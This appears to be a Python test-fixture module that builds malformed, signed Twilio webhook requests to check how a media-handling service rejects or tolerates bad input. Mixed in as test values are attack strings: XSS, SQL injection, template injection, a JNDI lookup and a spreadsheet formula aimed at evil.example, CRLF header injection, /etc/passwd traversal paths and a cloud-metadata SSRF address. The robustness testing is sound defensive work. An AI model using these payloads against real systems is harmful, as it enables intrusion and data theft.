"""C: requests that Twilio signed and whose content is odd; and what cannot be read at all."""

from __future__ import annotations

from hashlib import sha256
from urllib.parse import quote

from mediapipe.providers.base import WebhookRequest
from tests.support.bad_input.cases import (
    COMPLETED,
    MESSAGING,
    ONE_PICTURE,
    RECORDING,
    BadRequest,
    Pairs,
    changed,
    encoded,
    sid,
    signed,
)
from tests.support.payloads import signing, twilio

CAP = 1024 * 1024
PICTURE = ("queued",)
RTL, ZERO_WIDTH = "\u202egpj.exe", "a\u200bb\u200dc\ufeffd"


def message(name: str, pairs: Pairs, media: tuple[str, ...] = PICTURE) -> BadRequest:
    return BadRequest(name, signed(pairs), 200, media=media)


def recording(name: str, pairs: Pairs, media: tuple[str, ...] = PICTURE) -> BadRequest:
    return BadRequest(name, signed(pairs, url=RECORDING), 200, media=media)


def unreadable(name: str, request: WebhookRequest, reason: str, status: int = 400) -> BadRequest:
    return BadRequest(name, request, status, reason)


def bad_message(name: str, pairs: Pairs, reason: str = "message_sid") -> BadRequest:
    return unreadable(name, signed(pairs), reason)


def bad_recording(name: str, pairs: Pairs, reason: str = "recording_sid") -> BadRequest:
    return unreadable(name, signed(pairs, url=RECORDING), reason)


def of_size(size: int) -> Pairs:
    """Return a message whose form has exactly so many bytes."""
    missing = size - len(encoded(changed(Body="")))
    return changed(Body="x" * missing)


def many(count: int) -> Pairs:
    """Return a message with exactly so many parameters."""
    return ONE_PICTURE + tuple((f"P{n}", "") for n in range(count - len(ONE_PICTURE)))


SIZES = [
    unreadable("C1 a byte over the cap", signed(of_size(CAP + 1)), "body_too_large", 413),
    unreadable("C1 2.5 MB and a byte", signed(of_size(2_621_441)), "body_too_large", 413),
    message("C1 a body of exactly the cap", of_size(CAP)),
    bad_message("C2 1001 parameters", many(1001), "too_many_parameters"),
    bad_message("C2 20 000 parameters", many(20_000), "too_many_parameters"),
    unreadable("C2 only separators", signed(sent=b"&" * 5000), "too_many_parameters"),
    message("C2 exactly 1000 parameters", many(1000)),
    message("C31 a text of a megabyte", changed(Body="\U0001f4f7" * 80_000)),
    message(
        "C32 a name of half a megabyte",
        (*ONE_PICTURE, ("N" * 500_000, "x")),
    ),
]
TYPES = [
    unreadable(f"C{number} {kind or 'no'} type", signed(content_type=kind), "content_type")
    for number, kind in (
        (3, "multipart/form-data; boundary=x"),
        (4, "multipart/form-data"),
        (4, "multipart/form-data; boundary="),
        (5, "text/plain"),
        (5, ""),
        (5, "text/xml"),
        (5, "application/octet-stream"),
        (5, "application/x-www-form-urlencodedx"),
        (5, "x-www-form-urlencoded"),
        (5, "application/json, application/x-www-form-urlencoded"),
        (5, "application/ld+json"),
        (5, "; charset=utf-8"),
        (5, "application/x-www-form-urlencoded\0"),
        (5, "\xff\xfe"),
        (5, "a" * 4000),
    )
]
MULTIPART = b'--x\r\nContent-Disposition: form-data; name="AccountSid"\r\n\r\nAC\r\n--x--\r\n'
MULTIPARTS = [
    unreadable(
        name,
        signed(sent=body, content_type="multipart/form-data; boundary=x"),
        "content_type",
    )
    for name, body in {
        "C3 a whole multipart form": MULTIPART,
        "C4 a multipart form that is cut": MULTIPART[:30],
        "C4 a multipart form without its end": MULTIPART[:-7],
        "C4 a multipart form of another boundary": MULTIPART.replace(b"--x", b"--y"),
    }.items()
]
CHARSETS = [
    BadRequest(
        f"{name} is ignored",
        signed(content_type=f"application/x-www-form-urlencoded{rest}"),
        200,
        media=PICTURE,
    )
    for name, rest in {
        "C6 charset=latin-1": "; charset=latin-1",
        "C6 charset=utf8": "; charset=utf8",
        "C6 charset=utf-16": "; charset=utf-16",
        "C7 charset=nonsense": "; charset=nonsense",
        "C7 a charset that is a path": "; charset=../../etc/passwd",
        "C7 an unfinished parameter": '; charset="',
    }.items()
] + [
    BadRequest(
        f"C5 the type as {kind!r}",
        signed(content_type=kind),
        200,
        media=PICTURE,
    )
    for kind in ("APPLICATION/X-WWW-FORM-URLENCODED", " application/x-www-form-urlencoded ;")
]


def raw(name: str, more: bytes) -> BadRequest:
    """Return a request with bytes that are no UTF-8 behind an otherwise good form."""
    request = signed(sent=encoded(ONE_PICTURE) + b"&Extra=" + more)
    return unreadable(name, request, "invalid_utf8")


NO_UTF8 = [
    raw("C8 an escaped 0xFF", b"%ff"),
    raw("C8 an escaped cut sequence", b"%e2%82"),
    raw("C8 an escaped overlong slash", b"%c0%af"),
    raw("C8 an escaped surrogate", b"%ed%a0%80"),
    raw("C8 an escaped code point over U+10FFFF", b"%f5%80%80%80"),
    raw("C8 an escaped continuation alone", b"%80"),
    raw("C8 an escaped Latin-1 letter", b"caf%E9"),
    raw("C8 a name that is no UTF-8", b"&%ff=1"),
    raw("C9 a raw 0xFF", b"\xff"),
    raw("C9 a raw Latin-1 letter", b"caf\xe9"),
    raw("C9 a raw cut sequence", b"\xf0\x9f\x93"),
    unreadable("C9 a form in UTF-16", signed(sent="AccountSid=1".encode("utf-16")), "invalid_utf8"),
    unreadable("C9 a gzipped form", signed(sent=b"\x1f\x8b\x08\0\0\0\0\0\0\3KLL"), "invalid_utf8"),
    unreadable(
        "C8 a query that is no UTF-8",
        signing.signed_get(f"{twilio.MMS_ONE_PICTURE}&x=%ff", url=MESSAGING),
        "invalid_utf8",
    ),
]
LITERAL = [
    BadRequest(
        f"C8 {text} stays as it is",
        signed((*ONE_PICTURE, ("Odd", text)), sent=encoded(ONE_PICTURE) + f"&Odd={text}".encode()),
        200,
        media=PICTURE,
    )
    for text in ("%", "%zz", "%u0041", "%%", "a=b=c", "a;b", "?x#y", "\u00e9")
]
NULS = [
    message("C10 NUL in the text", changed(Body="a\0b")),
    message("C10 nothing but NUL in the text", changed(Body="\0")),
    message("C10 NUL in the sender", changed(From="+1555\0")),
    message("C10 NUL in the recipient", changed(To="\0")),
    message("C10 NUL in a declared type", changed(MediaContentType0="image/\0jpeg")),
    message("C10 NUL in the profile name", changed(ProfileName="\0\0\0")),
    message("C10 NUL in the count", changed(NumMedia="1\0")),
    message(
        "C10 NUL in the URL", changed(MediaUrl0=f"{twilio.MEDIA_URLS[0]}\0"), ("address_refused",)
    ),
    message("C10 NUL in the advert's URL", changed(ReferralMediaUrl="https://\0/")),
    message("C11 NUL in a name", (*ONE_PICTURE, ("a\0b", "x"))),
    message("C11 a name that is NUL", (*ONE_PICTURE, ("\0", "\0"))),
    message(
        "C11 NUL behind the name of a URL",
        (*changed(MediaUrl0=None), ("MediaUrl0\0", twilio.MEDIA_URLS[0])),
        ("url_missing",),
    ),
    bad_message("C10 NUL in the message SID", changed(MessageSid=f"{twilio.MMS_SID}\0")),
    bad_message("C10 NUL within the message SID", changed(MessageSid=f"MM\0{'1' * 31}")),
    unreadable(
        "C10 NUL in the account SID",
        signed(changed(AccountSid=f"{twilio.ACCOUNT_SID}\0")),
        "account_sid",
        403,
    ),
    bad_recording("C10 NUL in the call SID", changed(COMPLETED, CallSid="\0"), "call_sid"),
    recording("C10 NUL in the duration", changed(COMPLETED, RecordingDuration="1\0")),
    recording("C10 NUL in the status", changed(COMPLETED, RecordingStatus="absent\0")),
]
TEXTS = [
    message(
        f"C13 {name} as text, sender and type",
        changed(Body=text, From=text, MediaContentType0=text),
    )
    for name, text in {
        "emoji": "\U0001f468\u200d\U0001f469\u200d\U0001f467\U0001f1e9\U0001f1ea",
        "a right-to-left override": RTL,
        "zero-width characters": ZERO_WIDTH,
        "a storm of combining marks": "Z" + "\u0300\u0489\u036f" * 3000,
        "U+FFFF": "\uffff\ufffe",
        "U+10FFFF": "\U0010ffff",
        "line separators": "a\u2028b\u2029c\x85d",
        "private use characters": "\ue000\U000f0000",
        "the replacement character": "\ufffd",
        "control characters": "".join(map(chr, range(1, 32))) + "\x7f\x9f",
        "a terminal's escapes": "\x1b[2J\x1b]0;x\x07",
        "a script": '<script>alert(1)</script>"><img src=x onerror=alert(1)>',
        "a template": "{{7*7}} {% debug %} ${7*7} %s %(x)s {0}",
        "SQL": "'; DROP TABLE mediapipe_webhookevent; --",
        "a formula": '=HYPERLINK("http://evil.example")',
        "10 000 quotation marks": "\"'`\\" * 2500,
        "a line of a header": "x\r\nSet-Cookie: a=b\r\n\r\n",
        "a JNDI look-up": "${jndi:ldap://evil.example/a}",
        "200 letters": "\u00e9" * 200,
    }.items()
]


def json_body(
    name: str, body: bytes | str, reason: str = "json", status: int = 400, media: str = ""
) -> BadRequest:
    """Return a signed JSON request; `media` is what comes of the one that it names."""
    content = body if isinstance(body, bytes) else body.encode()
    url = f"{MESSAGING}?bodySHA256={sha256(content).hexdigest()}"
    request = signing.post(
        content, url=url, signature=signing.sign(url), content_type="application/json"
    )
    return BadRequest(name, request, status, reason, (media,) if media else ())


IDS = f'"AccountSid": "{twilio.ACCOUNT_SID}", "MessageSid": "{twilio.MMS_SID}"'


def understood(name: str, more: str, media: str = "") -> BadRequest:
    return json_body(name, f"{{{IDS}, {more}}}", "", 200, media)


JSON = [
    json_body("C12 half a surrogate pair in a value", f'{{{IDS}, "a": "\\ud800"}}', "invalid_utf8"),
    json_body("C12 half a surrogate pair in a name", f'{{{IDS}, "\\udc00": 1}}', "invalid_utf8"),
    json_body("C12 half a pair in a list", f'{{{IDS}, "a": ["\\udfff"]}}', "invalid_utf8"),
    json_body(
        "C12 a pair the wrong way round", f'{{{IDS}, "a": "\\udc00\\ud800"}}', "invalid_utf8"
    ),
    understood("C12 a whole surrogate pair", '"a": "\\ud83d\\ude00"'),
    understood("C10 an escaped NUL in a JSON value", '"Body": "a\\u0000b"'),
    understood("C11 an escaped NUL in a JSON name", '"\\u0000": "x"'),
    understood("C10 an escaped NUL deep in JSON", '"a": {"b": ["\\u0000"]}'),
    understood("C5 JSON with numbers that are none", '"a": NaN, "b": -Infinity, "c": 1e999'),
    understood("C5 JSON with nested values", '"a": {"b": [1, null, true, {}]}, "c": null'),
    understood("C15 JSON with a SID twice", f'"MessageSid": "{twilio.MMS_SID}"'),
    understood("C20 JSON with a count that is a number", '"NumMedia": 2', "url_missing"),
    understood("C29 JSON with a URL elsewhere", '"MediaUrl0": "http://x"', "address_refused"),
    understood("C29 JSON with a list as URL", '"MediaUrl0": ["http://x"]', "address_refused"),
    understood("C29 JSON with null as URL", '"MediaUrl0": null', "address_refused"),
    understood("C29 JSON with a true URL", f'"MediaUrl0": "{twilio.MEDIA_URLS[0]}"', "queued"),
    json_body("C5 JSON that is a list", "[]"),
    json_body("C5 JSON that is text", '"AccountSid"'),
    json_body("C5 JSON that is null", "null"),
    json_body("C5 JSON that is a number", "5"),
    json_body("C5 JSON that is true", "true"),
    json_body("C5 JSON that is empty", ""),
    json_body("C5 JSON that is blank", " \n\t"),
    json_body("C5 JSON that is cut", f"{{{IDS}"),
    json_body("C5 JSON with more behind it", f"{{{IDS}}} {{}}"),
    json_body("C5 JSON with a comment", f"{{{IDS} /* x */}}"),
    json_body("C5 JSON in single quotes", "{'AccountSid': 'x'}"),
    json_body("C5 JSON behind a byte order mark", f"\ufeff{{{IDS}}}"),
    json_body("C5 JSON with a line end in text", f'{{{IDS}, "a": "\n"}}'),
    json_body("C5 JSON with 100 000 brackets", "[" * 100_000),
    json_body("C5 JSON with 100 000 objects", '{"a":' * 100_000),
    json_body("C5 JSON with a number of 5000 digits", f'{{{IDS}, "a": {"9" * 5000}}}'),
    json_body("C5 JSON that is a form", encoded(ONE_PICTURE)),
    json_body("C9 JSON in UTF-16", "{}".encode("utf-16"), "invalid_utf8"),
    json_body("C9 JSON with a raw 0xFF", b'{"a": "\xff"}', "invalid_utf8"),
    json_body(
        "C2 JSON with 1003 names",
        "{" + ", ".join([IDS, *(f'"P{n}": 1' for n in range(1001))]) + "}",
        "too_many_parameters",
    ),
    json_body("C19 JSON with a number as account", '{"AccountSid": 5}', "account_sid", 403),
    json_body("C19 JSON with null as account", '{"AccountSid": null}', "account_sid", 403),
    json_body(
        "C19 JSON with a list as account",
        f'{{"AccountSid": ["{twilio.ACCOUNT_SID}"]}}',
        "account_sid",
        403,
    ),
    json_body("C19 JSON without an account", "{}", "account_sid", 403),
    json_body(
        "C14 JSON without a message", f'{{"AccountSid": "{twilio.ACCOUNT_SID}"}}', "message_sid"
    ),
    json_body(
        "C16 JSON with a number as message",
        f'{{"AccountSid": "{twilio.ACCOUNT_SID}", "MessageSid": 1}}',
        "message_sid",
    ),
]
NO_SID = changed(MessageSid=None, SmsMessageSid=None, SmsSid=None)
MESSAGE_SIDS = [
    bad_message("C14 no message SID", NO_SID),
    bad_message("C14 empty message SIDs", changed(MessageSid="", SmsMessageSid="", SmsSid="")),
    bad_message(
        "C14 a message SID under a name in lower case", (*NO_SID, ("messagesid", twilio.MMS_SID))
    ),
    bad_message(
        "C14 a message SID under a name with a blank", (*NO_SID, ("MessageSid ", twilio.MMS_SID))
    ),
    bad_message("C14 a recording at the message URL", COMPLETED, "wrong_url"),
    bad_message(
        "C15 two message SIDs", (*ONE_PICTURE, ("MessageSid", f"MM{'9' * 32}")), "ambiguous"
    ),
    bad_message(
        "C15 a good and a bad message SID", (*ONE_PICTURE, ("MessageSid", "x")), "ambiguous"
    ),
    message("C15 a good and an empty message SID", (*ONE_PICTURE, ("MessageSid", ""))),
    message("C15 an older name with another SID", changed(SmsSid=f"SM{'9' * 32}")),
    message("C14 the oldest name alone", (*NO_SID, ("SmsSid", twilio.MMS_SID))),
    message(
        "C17 a SID in upper case",
        changed(
            MessageSid=f"MM{'AB' * 16}",
            MediaUrl0=twilio.MEDIA_URLS[0].replace(twilio.MMS_SID, f"MM{'AB' * 16}"),
        ),
    ),
    message(
        "C17 a SID in another case than in its URL",
        changed(
            MessageSid=f"MM{'AB' * 16}",
            MediaUrl0=twilio.MEDIA_URLS[0].replace(twilio.MMS_SID, f"MM{'ab' * 16}"),
        ),
        ("address_refused",),
    ),
] + [
    bad_message(f"{name} as message SID", changed(MessageSid=value))
    for name, value in {
        "C16 35 characters": f"MM{'1' * 33}",
        "C16 33 characters": f"MM{'1' * 31}",
        "C16 half a megabyte": f"MM{'1' * 500_000}",
        "C16 two letters": "MM",
        "C17 a prefix in lower case": f"mm{'1' * 32}",
        "C17 a letter that is no digit": f"MM{'1' * 31}g",
        "C17 another kind": f"IM{'1' * 32}",
        "C18 a line end behind": f"{twilio.MMS_SID}\n",
        "C18 a line end within": f"MM{'1' * 16}\n{'1' * 15}",
        "C18 a blank before": f" {twilio.MMS_SID}",
        "C18 a tab behind": f"{twilio.MMS_SID}\t",
        "C18 full-width digits": "MM" + "\uff11" * 32,
        "C18 Arabic digits": "MM" + "\u0661" * 32,
        "C18 a path": "../../../../etc/passwd",
        "C18 a path of the right length": f"MM{'../' * 10}xx",
        "C18 SQL": "MM' OR '1'='1",
        "C18 a list": f"['{twilio.MMS_SID}']",
    }.items()
]
ACCOUNTS = [
    unreadable(f"C19 {name} as account", signed(changed(AccountSid=value)), reason, 403)
    for name, value, reason in (
        ("nobody", f"AC{'0' * 32}", "account_unknown"),
        ("ours in upper case", twilio.ACCOUNT_SID.upper(), "account_unknown"),
        ("nothing", "", "account_sid"),
        ("a prefix in lower case", twilio.ACCOUNT_SID.lower(), "account_sid"),
        ("a digit more", f"{twilio.ACCOUNT_SID}1", "account_sid"),
        ("a line end behind ours", f"{twilio.ACCOUNT_SID}\n", "account_sid"),
        ("a path", "../../etc/passwd", "account_sid"),
        ("a URL", "https://evil.example/", "account_sid"),
        ("half a megabyte", "A" * 500_000, "account_sid"),
        ("a subaccount", f"AC{'9' * 32}", "account_unknown"),
    )
] + [
    unreadable("C19 no account", signed(changed(AccountSid=None)), "account_sid", 403),
    unreadable(
        "C19 two accounts",
        signed((*ONE_PICTURE, ("AccountSid", f"AC{'0' * 32}"))),
        "account_sid",
        403,
    ),
    unreadable(
        "C19 an account in the query alone",
        signed(changed(AccountSid=None), url=f"{MESSAGING}?AccountSid={twilio.ACCOUNT_SID}"),
        "account_sid",
        403,
    ),
    unreadable(
        "C33 all parameters empty",
        signed(tuple((n, "") for n, _ in ONE_PICTURE)),
        "account_sid",
        403,
    ),
    unreadable("C33 no parameters", signed(()), "account_sid", 403),
    unreadable(
        "C33 no parameters by GET", signing.signed_get("", url=MESSAGING), "account_sid", 403
    ),
]
COUNTS = (
    [
        message(f"{number} NumMedia={value[:20]!r}", changed(NumMedia=value))
        for number, values in {
            "C20": (
                "abc",
                "",
                " 1",
                "1.5",
                "1e3",
                "0x1",
                "+1",
                "\u0661",
                "\u2460",
                "one",
                "NaN",
                "1,2",
            ),
            "C21": ("-1", "-99999999999"),
            "C23": ("1" + "0" * 100, "9" * 5000),
            "C25": ("0", "00"),
        }.items()
        for value in values
    ]
    + [
        message(f"{number} NumMedia={value}", changed(NumMedia=value), ("queued", "url_missing"))
        for number, value in (("C22", "99999"), ("C22", "999999999"), ("C24", "2"), ("C24", "007"))
    ]
    + [
        message("C24 a count without any URL", changed(MediaUrl0=None), ("url_missing",)),
        message("C26 no count", changed(NumMedia=None)),
        message("C26 a count twice", (*ONE_PICTURE, ("NumMedia", "3"))),
    ]
)


def pictures(*numbers: int | str) -> Pairs:
    """Return a message with a picture of its own at each number."""
    url = twilio.MEDIA_URLS[0].rpartition("/")[0]
    urls = tuple((f"MediaUrl{n}", f"{url}/{sid('ME', str(n))}") for n in numbers)
    return changed(MediaUrl0=None, NumMedia=str(len(numbers))) + urls


NUMBERS = [
    message("C27 a gap in the numbers", pictures(0, 2), PICTURE * 2),
    message("C27 numbers backwards", pictures(2, 1, 0), PICTURE * 3),
    message("C28 50 pictures", pictures(*range(50)), PICTURE * 50),
    message("C28 51 pictures", pictures(*range(51)), PICTURE * 50 + ("url_missing",)),
    message("C28 900 pictures", pictures(*range(10, 910)), PICTURE * 50 + ("url_missing",)),
    message("C28 a number of nine digits", pictures(999_999_999)),
    message("C28 a number of ten digits", pictures("1" * 10), ("url_missing",)),
    message("C28 a number of 4000 digits", pictures("1" * 4000), ("url_missing",)),
    message("C28 a negative number", pictures(-1), ("url_missing",)),
    message("C28 a number in Arabic digits", pictures("\u0661"), ("url_missing",)),
    message("C28 a number with zeros before it", pictures("007")),
    message("C28 the same number written twice", pictures("1", "01"), PICTURE * 2),
    message("C28 a number with more behind it", pictures("0x"), ("url_missing",)),
    message(
        "C28 a name in lower case", (*changed(MediaUrl0=None), ("mediaurl0", "x")), ("url_missing",)
    ),
    message("C29 the same picture twice", changed(NumMedia="2", MediaUrl1=twilio.MEDIA_URLS[0])),
    message(
        "C29 the same picture by http and https",
        changed(NumMedia="2", MediaUrl1=twilio.MEDIA_URLS[0].replace("https", "http")),
    ),
    message(
        "C29 one number with two pictures",
        (*ONE_PICTURE, ("MediaUrl0", twilio.MEDIA_URLS[1])),
        PICTURE * 2,
    ),
    message("C29 an empty URL among good ones", changed(NumMedia="1", MediaUrl1="")),
    message(
        "C29 a good and a bad URL",
        changed(NumMedia="2", MediaUrl1="http://x"),
        ("queued", "address_refused"),
    ),
    message(
        "C29 the same bad URL twice",
        changed(MediaUrl0="http://x", MediaUrl1="http://x"),
        ("address_refused",),
    ),
    message(
        "C29 a recording as picture", changed(MediaUrl0=twilio.RECORDING_URL), ("address_refused",)
    ),
]
DECLARED = [
    message(f"C30 {name} as declared type", changed(MediaContentType0=value))
    for name, value in {
        "a lie": "application/x-msdownload",
        "nothing": "",
        "2 KB": "image/" + "j" * 2048,
        "lines": "image/jpeg\r\nX-Evil: 1",
        "a path": "../../../etc/passwd",
        "HTML": "<b>image</b>",
        "no slash": "jpeg",
        "many parameters": "image/jpeg;" * 500,
    }.items()
] + [
    message("C30 no declared type", changed(MediaContentType0=None)),
    message("C30 two declared types", (*ONE_PICTURE, ("MediaContentType0", "text/html"))),
]
EXTRAS = [
    message("C32 an unknown parameter", changed(BrandNew="x")),
    message("C32 an empty name", (*ONE_PICTURE, ("", "x"))),
    message("C32 names of Python", (*ONE_PICTURE, ("__class__", "x"), ("self", "x"), ("pk", "1"))),
    message("C32 names of a query", (*ONE_PICTURE, ("id__in", "1"), ("media__pk", "1"))),
    message("C32 500 times the same name", ONE_PICTURE + (("x", "1"),) * 500),
    message("C32 500 values of one name", ONE_PICTURE + tuple(("x", str(n)) for n in range(500))),
    message("C32 a cookie of a session", changed(sessionid="x", csrfmiddlewaretoken="x")),
    message(
        "C34 a status callback",
        changed(MediaUrl0=None, NumMedia=None, MessageStatus="delivered"),
        (),
    ),
    message(
        "C34 an error callback",
        changed(MediaUrl0=None, NumMedia=None, MessageStatus="failed", ErrorCode="30008"),
        (),
    ),
    message(
        "C32 the picture of an advert elsewhere",
        changed(ReferralMediaUrl="http://169.254.169.254/"),
    ),
    message("C32 a second, absurd webhook version", changed(ApiVersion="9999-99-99")),
]


def status(value: str, **more: str | None) -> Pairs:
    return changed(COMPLETED, RecordingStatus=value, **more)


RECORDINGS = [
    recording("C35 absent", status("absent"), ("recording_absent",)),
    recording("C35 failed", status("failed"), ("recording_failed",)),
    recording("C35 too short", status("absent", ErrorCode="16101"), ("recording_too_short",)),
    recording("C35 silent", status("absent", ErrorCode="16102"), ("recording_silent",)),
    recording(
        "C35 absent for an unknown reason",
        status("absent", ErrorCode="99999"),
        ("recording_absent",),
    ),
    recording(
        "C35 absent for an unreadable reason",
        status("absent", ErrorCode="-1e9"),
        ("recording_absent",),
    ),
    recording(
        "C35 absent for a reason of 5000 digits",
        status("absent", ErrorCode="9" * 5000),
        ("recording_absent",),
    ),
    recording(
        "C35 absent with a URL elsewhere",
        status("absent", RecordingUrl="http://x/"),
        ("recording_absent",),
    ),
    recording("C35 in progress", status("in-progress"), ()),
    recording("C35 processing", status("processing"), ()),
    recording("C35 an unknown status", status("exploded")),
    recording("C35 a status in upper case", status("ABSENT")),
    recording("C35 no status", changed(COMPLETED, RecordingStatus=None)),
    recording(
        "C35 completed without a URL", changed(COMPLETED, RecordingUrl=None), ("url_missing",)
    ),
    recording(
        "C35 completed with an empty URL", changed(COMPLETED, RecordingUrl=""), ("url_missing",)
    ),
    recording(
        "C35 completed elsewhere",
        changed(COMPLETED, RecordingUrl="http://x/"),
        ("address_refused",),
    ),
    recording(
        "C35 another recording's URL",
        changed(COMPLETED, RecordingSid=f"RE{'9' * 32}"),
        ("address_refused",),
    ),
    recording("C36 ErrorCode=0", changed(COMPLETED, ErrorCode="0")),
    recording("C36 an error code on success", changed(COMPLETED, ErrorCode="16101")),
    recording("C36 a duration of nonsense", changed(COMPLETED, RecordingDuration="-1e99")),
    recording("C36 a start in the year 99999", changed(COMPLETED, RecordingStartTime="99999")),
    recording("C14 only the URL names it", changed(COMPLETED, RecordingSid=None)),
    recording("C14 no call", changed(COMPLETED, CallSid=None)),
    recording("C14 an empty call", changed(COMPLETED, CallSid="")),
    bad_recording(
        "C14 no recording SID and no URL", changed(COMPLETED, RecordingSid=None, RecordingUrl=None)
    ),
    bad_recording(
        "C14 no recording SID and a URL elsewhere",
        changed(COMPLETED, RecordingSid=None, RecordingUrl="http://x/"),
    ),
    bad_recording("C14 a message at the recording URL", ONE_PICTURE, "wrong_url"),
    bad_recording(
        "C15 two recording SIDs", (*COMPLETED, ("RecordingSid", f"RE{'9' * 32}")), "ambiguous"
    ),
    bad_recording("C15 two calls", (*COMPLETED, ("CallSid", f"CA{'9' * 32}")), "ambiguous"),
    bad_recording(
        "C16 a recording SID of 35 characters", changed(COMPLETED, RecordingSid=f"RE{'3' * 33}")
    ),
    bad_recording(
        "C17 a message SID as recording", changed(COMPLETED, RecordingSid=twilio.MMS_SID)
    ),
    bad_recording(
        "C16 a call SID of 35 characters", changed(COMPLETED, CallSid=f"CA{'4' * 33}"), "call_sid"
    ),
    bad_recording("C18 a path as call", changed(COMPLETED, CallSid="../x"), "call_sid"),
    bad_recording(
        "C18 a conference with a line end",
        changed(COMPLETED, ConferenceSid=f"CF{'5' * 32}\n"),
        "conference_sid",
    ),
]
QUERIES = [
    unreadable(
        "C2 a query of 1001 parameters",
        signing.signed_get("&".join(f"{n}={quote(v)}" for n, v in many(1001)), url=MESSAGING),
        "too_many_parameters",
    ),
    unreadable(
        "C2 a query of separators",
        signing.signed_get("&" * 2000, url=MESSAGING),
        "too_many_parameters",
    ),
    BadRequest(
        "C32 a query beside a form",
        signed(url=f"{MESSAGING}?MessageSid=x&MediaUrl9=http://x/"),
        200,
        media=PICTURE,
    ),
    BadRequest(
        "C32 a second question mark",
        signing.signed_get(f"{twilio.MMS_ONE_PICTURE}&a=?b?", url=MESSAGING),
        200,
        media=PICTURE,
    ),
    BadRequest("C32 an empty query", signed(url=f"{MESSAGING}?"), 200, media=PICTURE),
    BadRequest("C32 a query of one equals sign", signed(url=f"{MESSAGING}?="), 200, media=PICTURE),
    BadRequest(
        "C32 a body that a GET brings along",
        WebhookRequest(
            "GET",
            (query := signing.signed_get(twilio.MMS_ONE_PICTURE, url=MESSAGING)).url,
            {**query.headers, "content-type": signing.FORM},
            b"MediaUrl1=http%3A%2F%2Fx",
        ),
        200,
        media=PICTURE,
    ),
]

CASES: list[BadRequest] = [
    *SIZES,
    *TYPES,
    *MULTIPARTS,
    *CHARSETS,
    *NO_UTF8,
    *LITERAL,
    *NULS,
    *TEXTS,
    *JSON,
    *MESSAGE_SIDS,
    *ACCOUNTS,
    *COUNTS,
    *NUMBERS,
    *DECLARED,
    *EXTRAS,
    *RECORDINGS,
    *QUERIES,
]
